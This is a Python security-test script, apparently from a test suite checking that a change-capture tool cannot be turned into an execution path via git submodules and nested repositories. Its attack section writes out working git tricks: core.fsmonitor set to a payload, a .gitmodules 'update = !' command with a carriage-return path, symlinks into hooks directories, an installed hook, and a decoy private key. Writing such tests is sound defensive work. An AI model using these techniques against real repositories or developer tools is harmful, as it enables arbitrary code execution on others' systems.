#!/usr/bin/python3
# CAP-06: Submodules and nested repositories
# Guarantee: capture is not an execution path; out-of-scope changes are rejected
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "steps.py")).read())  # corral: inline steps.py

# Swap the submodule's gitfile for a live repository with an fsmonitor.
step("rm vendor/lib/.git", lambda: os.unlink("vendor/lib/.git"))
sh("git init vendor/lib", "git init -q vendor/lib")
sh("vendor/lib fsmonitor", f"git -C vendor/lib config core.fsmonitor '{PAY}'")
w("vendor/lib/lib.txt", "changed\n")
w(".gitmodules", f'[submodule "x"]\n\tpath = "x\r"\n\turl = ../x\n\tupdate = !touch {MARK}\n', "a")
step("symlink x\\r", lambda: os.symlink(".git/modules/x/hooks", "x\r"))
step("symlink src/h", lambda: os.symlink("../.git/modules/vendor/lib/hooks", "src/h"))
sh("git init src/nested", "git init -q src/nested")
sh("nested fsmonitor", f"git -C src/nested config core.fsmonitor '{PAY}'")
mkexec("src/nested/.git/hooks/post-index-change", HOOK)
w("src/nested/ok.txt", "fine\n")
w("src/nested/secret.pem", "-----BEGIN PRIVATE KEY-----\n")
w("src/app.py", 'print("changed")\n', "a")

say("DONE")
sys.exit(0)
